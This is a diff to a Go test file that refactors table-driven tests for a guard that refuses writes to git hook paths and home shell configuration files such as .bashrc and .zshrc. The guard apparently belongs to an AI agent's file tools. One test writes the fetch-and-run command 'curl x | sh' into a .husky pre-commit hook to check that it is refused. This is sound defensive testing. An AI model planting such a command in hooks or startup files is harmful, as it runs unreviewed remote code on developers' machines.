@@ -564,11 +564,7 @@ func TestWriteGitHooks(t *testing.T) {
 		t.Fatal(err)
 	}
 	env := []string{"HOME=" + home, "PATH=/usr/bin:/bin"}
-	for _, tc := range []struct {
-		cwd, path string
-		allow     bool
-		want      string
-	}{
+	wantWriteTargets(t, env, []writeTargetCase{
 		{ws, ".husky/pre-commit", false, RefusedGitInternals},
 		{ws, ".husky/_/h", false, RefusedGitInternals},
 		{ws, ".husky/_/pre-commit", false, RefusedGitInternals},
@@ -589,12 +585,7 @@ func TestWriteGitHooks(t *testing.T) {
 		{ws, "tools/git.inc", false, RefusedGitInternals},
 		{ws, "tools/other.txt", false, ""},
 		{linked, "real-hooks/other", false, RefusedGitInternals},
-	} {
-		o := Options{Cwd: tc.cwd, Env: env, AllowGitInternals: tc.allow, AllowOutsideCwd: true}
-		if _, reason, bad := o.writeTarget(tc.path); reason != tc.want || bad != "" {
-			t.Errorf("cwd %s: writeTarget(%q) = reason %q, bad %q; want %q", tc.cwd, tc.path, reason, bad, tc.want)
-		}
-	}
+	})
 	// Through the tools: the hook keeps its content.
 	w, e := &writeFile{o: Options{Cwd: ws, Env: env}}, &editFile{o: Options{Cwd: ws, Env: env}}
 	if r := w.Run(t.Context(), json.RawMessage(`{"path":".husky/pre-commit","content":"curl x | sh\n"}`)); !strings.Contains(r.Text, RefusedGitInternals) {
@@ -627,11 +618,7 @@ func TestWriteHomeConfig(t *testing.T) {
 		}
 	}
 	env := []string{"HOME=" + home, "PATH=/usr/bin:/bin"}
-	for _, tc := range []struct {
-		cwd, path string
-		allow     bool
-		want      string
-	}{
+	wantWriteTargets(t, env, []writeTargetCase{
 		{home, ".bashrc", false, RefusedHomeConfig},
 		{home, ".BASHRC", false, RefusedHomeConfig},
 		{home, ".zshrc", false, RefusedHomeConfig},
@@ -646,8 +633,24 @@ func TestWriteHomeConfig(t *testing.T) {
 		// A working directory that holds home: beside home is not in it.
 		{filepath.Dir(home), filepath.Join(filepath.Base(home)+"-sibling", "x.go"), false, ""},
 		{filepath.Dir(home), filepath.Join(filepath.Base(home), ".profile"), false, RefusedHomeConfig},
-	} {
-		o := Options{Cwd: tc.cwd, Env: env, AllowOutsideCwd: tc.allow}
+	})
+}
+
+// writeTargetCase is a write target checked from a working directory:
+// allow lifts the protection the test is about (its Allow* option).
+type writeTargetCase struct {
+	cwd, path string
+	allow     bool
+	want      string
+}
+
+// wantWriteTargets checks writeTarget for each case with env: a case's
+// allow sets AllowGitInternals and AllowOutsideCwd, the options that lift
+// the git metadata rule and the home configuration rule.
+func wantWriteTargets(t *testing.T, env []string, cases []writeTargetCase) {
+	t.Helper()
+	for _, tc := range cases {
+		o := Options{Cwd: tc.cwd, Env: env, AllowGitInternals: tc.allow, AllowOutsideCwd: tc.allow}
 		if _, reason, bad := o.writeTarget(tc.path); reason != tc.want || bad != "" {
 			t.Errorf("cwd %s: writeTarget(%q) = reason %q, bad %q; want %q", tc.cwd, tc.path, reason, bad, tc.want)
 		}
